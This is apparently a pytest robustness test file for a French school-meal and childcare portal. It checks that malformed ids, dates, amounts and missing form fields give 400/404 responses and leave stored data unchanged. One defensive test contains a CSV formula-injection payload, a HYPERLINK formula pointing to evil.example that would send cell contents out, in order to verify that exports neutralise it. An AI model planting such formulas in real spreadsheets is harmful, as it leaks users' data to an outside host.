"""Bad input never breaks and never erases (issue 10): out-of-range ids, dates and amounts answer
404 or a French message, never a 500; a staff form with missing fields changes nothing."""
from __future__ import annotations

import html

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from models import Child, Household, Unit
from tests.conftest import Auth, csrf_token, post_form

EXTREME_DATES = ["0001-01-01", "9999-12-31", "2026-02-30", "2026-13-01", "-1", "", "x" * 300]
HUGE = "99999999999999999999"


def _text(response) -> str:
    return html.unescape(response.get_data(as_text=True))


@pytest.mark.parametrize("url", [f"/factures/{HUGE}", f"/commandes/{HUGE}", f"/gestion/familles/{HUGE}",
                                 f"/factures/{HUGE}/pdf", f"/mon-compte/enfants/{HUGE}"])
def test_huge_ids_in_urls_are_404(client, demo, url):
    Auth(client).login("admin@example.fr" if url.startswith("/gestion") else "famille.martin@example.fr")
    assert client.get(url).status_code == 404


@pytest.mark.parametrize("day", EXTREME_DATES)
def test_extreme_dates_in_a_cell_key_are_a_message(client, demo, freeze, day):
    freeze("2026-11-19T17:55")
    Auth(client).login()
    key = f"{demo['children']['lea'].id}:{demo['units']['repas_phare'].id}:{day}"
    response = post_form(client, "/reservations/case", {"cell": key, "cells": key}, token_page="/reservations",
                         headers={"HX-Request": "true"})
    assert response.status_code in (200, 400, 404)


@pytest.mark.parametrize("key", [f"{HUGE}:1:2026-11-30", f"1:{HUGE}:2026-11-30", "1:2:3:4", ":::"])
def test_malformed_cell_keys_are_a_message(client, demo, freeze, key):
    freeze("2026-11-19T17:55")
    Auth(client).login()
    response = post_form(client, "/reservations/case", {"cell": key, "cells": key}, token_page="/reservations",
                         headers={"HX-Request": "true"})
    assert response.status_code in (200, 400, 404)


@pytest.mark.parametrize("day", EXTREME_DATES)
def test_extreme_dates_on_staff_pages(client, demo, day):
    Auth(client).login("admin@example.fr")
    for url in (f"/gestion/effectifs?date={day}", f"/gestion/pointage?date={day}", f"/gestion/effectifs.csv?date={day}"):
        assert client.get(url).status_code in (200, 400), url


@pytest.mark.parametrize("query", ["semaine=9999-W52", "semaine=0001-W01", "semaine=2026-W99", "semaine=x"])
def test_extreme_weeks_and_months(client, demo, query):
    Auth(client).login()
    assert client.get(f"/reservations?{query}").status_code in (200, 400)
    month = query.replace("semaine", "mois").replace("-W", "-")
    assert client.get(f"/reservations/mois?{month}").status_code in (200, 400)


def test_huge_ids_in_forms_are_a_message(client, demo):
    Auth(client).login("admin@example.fr")
    response = post_form(client, "/gestion/facturation/reglement", {"household": HUGE, "mode": "cheque",
                                                                      "amount": "10", "date": "2026-11-19"},
                         token_page="/gestion/facturation/reglement")
    assert response.status_code in (200, 400)
    assert client.get(f"/gestion/facturation/reglement?foyer={HUGE}").status_code in (200, 400)
    assert client.get(f"/gestion/facturation/?regie={HUGE}").status_code in (200, 400)
    assert client.get(f"/gestion/facturation/export/factures.csv?regie={HUGE}").status_code in (200, 400)


def test_document_upload_for_a_huge_child_id_is_a_message(client, demo):
    Auth(client).login()
    import io
    response = post_form(client, "/mon-compte/documents", {
        "doc_type": "1", "child": HUGE, "file": (io.BytesIO(b"%PDF-1.4 test"), "vaccins.pdf")},
        token_page="/mon-compte/documents", content_type="multipart/form-data")
    assert response.status_code in (200, 302, 400)


@pytest.mark.parametrize("field", ["default_price", "capacity", "late_absence_hours", "price_0", "qf_max_0"])
@pytest.mark.parametrize("value", [HUGE, "-5", "1e400", "NaN", "12,345,6", "€"])
def test_huge_or_odd_numbers_in_unit_forms_change_nothing(client, demo, field, value):
    from models import TariffBand
    from tests.formdata import _Forms
    Auth(client).login("admin@example.fr")
    unit = Unit.get_by_id(demo["units"]["repas_phare"].id)
    page = f"/gestion/prestations/{unit.id}"
    parser = _Forms()
    parser.feed(_text(client.get(page)))
    form = next(f for f in parser.forms if field in [name for name, _ in f])
    data: dict = {}
    for name, entry in form:
        data.setdefault(name, []).append(value if name == field else entry)
    before = (Unit.select().where(Unit.id == unit.id).dicts().get(),
              list(TariffBand.select().where(TariffBand.unit == unit.id).dicts()))
    response = client.post(page, data=data)
    assert response.status_code == 400, (field, value, response.status_code)
    assert (Unit.select().where(Unit.id == unit.id).dicts().get(),
            list(TariffBand.select().where(TariffBand.unit == unit.id).dicts())) == before


def test_staff_child_form_with_missing_fields_erases_nothing(client, demo):
    Auth(client).login("agent@example.fr")
    lea = Child.get_by_id(demo["children"]["lea"].id)
    before = Child.select().where(Child.id == lea.id).dicts().get()
    url = f"/gestion/familles/{lea.household_id}/enfants/{lea.id}"
    response = client.post(url, data={"csrf_token": csrf_token(client, url)})
    assert response.status_code == 400
    assert "modifié" not in _text(response)
    assert Child.select().where(Child.id == lea.id).dicts().get() == before


def test_staff_foyer_form_with_missing_fields_erases_nothing(client, demo):
    Auth(client).login("agent@example.fr")
    martin = Household.get_by_id(demo["households"]["martin"].id)
    before = Household.select().where(Household.id == martin.id).dicts().get()
    url = f"/gestion/familles/{martin.id}/foyer"
    response = client.post(url, data={"csrf_token": csrf_token(client, url)})
    assert response.status_code == 400
    assert Household.select().where(Household.id == martin.id).dicts().get() == before


def test_staff_guardian_form_with_missing_fields_erases_nothing(client, demo):
    from models import Guardian
    Auth(client).login("agent@example.fr")
    guardian = Guardian.get(Guardian.household == demo["households"]["martin"].id)
    before = Guardian.select().where(Guardian.id == guardian.id).dicts().get()
    url = f"/gestion/familles/{guardian.household_id}/responsables/{guardian.id}"
    response = client.post(url, data={"csrf_token": csrf_token(client, url)})
    assert response.status_code == 400
    assert Guardian.select().where(Guardian.id == guardian.id).dicts().get() == before


# Derandomized: CI draws the same examples every run, so a failure is reproducible, never flaky.
@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(value=st.one_of(st.text(max_size=40), st.integers(min_value=-(10 ** 30), max_value=10 ** 30).map(str),
                       st.dates().map(str)))
def test_query_parameters_never_break_a_page(app, demo_snapshot, value):
    """Random strings, huge and negative numbers and any date in every query parameter a page reads."""
    client = app.test_client()
    if not Household.select().exists():
        demo_snapshot.restore(app.config["UPLOAD_DIR"])
    Auth(client).login("admin@example.fr")
    for url, name in (("/gestion/effectifs", "date"), ("/gestion/pointage", "date"), ("/gestion/familles", "q"),
                      ("/gestion/facturation/", "regie"), ("/gestion/facturation/", "mois"),
                      ("/gestion/facturation/impayes", "regie"), ("/gestion/courriels/", "statut")):
        response = client.get(url, query_string={name: value})
        assert response.status_code in (200, 302, 400), (url, name, value, response.status_code)


@pytest.mark.parametrize("path", ["enfants/{child}", "foyer", "responsables/{guardian}"])
def test_staff_forms_as_a_browser_sends_them_still_save(client, demo, path):
    from models import Guardian
    from tests.formdata import browser_form
    Auth(client).login("agent@example.fr")
    martin = demo["households"]["martin"]
    guardian = Guardian.get(Guardian.household == martin.id)
    url = f"/gestion/familles/{martin.id}/" + path.format(child=demo["children"]["lea"].id, guardian=guardian.id)
    form = browser_form(_text(client.get(url)))
    assert "csrf_token" in form
    response = client.post(url, data=form)
    assert response.status_code == 302, _text(response)[-2000:]
    assert "Aucune modification" in _text(client.get(response.headers["Location"]))


def test_csv_exports_neutralise_formulas(client, demo):
    from models import Invoice
    from services.core import csv_export
    assert csv_export.safe_cell('=HYPERLINK("http://evil.example/?"&A1;"Cliquez")').startswith("'=")
    assert [csv_export.safe_cell(v) for v in ("+1", "-2", "@x", "\tx", "\rx", "Martin", 12)] == [
        "'+1", "'-2", "'@x", "'\tx", "'\rx", "Martin", 12]
    Invoice.update(payer_name='=HYPERLINK("http://evil.example/?"&A1;"Cliquez")').execute()
    Auth(client).login("regisseur@example.fr")
    export = client.get("/gestion/facturation/export/factures.csv").get_data(as_text=True)
    assert "HYPERLINK" in export and ";=HYPERLINK" not in export and "'=HYPERLINK" in export


def test_health_documents_are_hidden_from_roles_without_health_access(client, demo):
    from models import DocumentType, FamilyDocument
    martin = demo["households"]["martin"]
    pai = FamilyDocument.select().join(DocumentType).where((FamilyDocument.household == martin.id)
                                                           & (DocumentType.health == True)).first()  # noqa: E712
    assert pai is not None, "the demo has Léa's PAI"
    FamilyDocument.create(household=martin.id, child=pai.child_id, doc_type=pai.doc_type_id, status="pending",
                          stored_name="x.pdf", original_name="pai-2.pdf", content_type="application/pdf", size=10,
                          uploaded_at=pai.uploaded_at)
    name = pai.doc_type.name
    Auth(client).login("regisseur@example.fr")
    assert name not in _text(client.get(f"/gestion/familles/{martin.id}"))
    assert name not in _text(client.get("/gestion/documents"))
    assert client.get(f"/gestion/documents/{pai.id}/fichier").status_code == 404
    Auth(client).logout()
    Auth(client).login("agent@example.fr")
    assert name in _text(client.get(f"/gestion/familles/{martin.id}"))
    assert name in _text(client.get("/gestion/documents"))


@pytest.mark.parametrize("query", ["", "idop=IDOP42", "idop=%00", "x=y"])
def test_payfip_notification_in_production_without_payfip_is_404(app, demo, query):
    from app import create_app
    production = create_app({**app.config, "PORTAIL_ENV": "production", "PORTAIL_NOW": "", "SECRET_KEY": "x" * 32,
                             "PAYMENT_BACKEND": "payfip_ws", "PAYFIP_NUMCLI": ""})
    client = production.test_client()
    for method in ("GET", "POST"):
        response = client.open(f"/factures/paiement/notification?{query}", method=method, data=query,
                               base_url="https://portail.test")
        # A NUL character is refused before any view (400); everything else is an unknown transaction.
        assert response.status_code == (400 if "%00" in query else 404), (method, query, response.status_code)
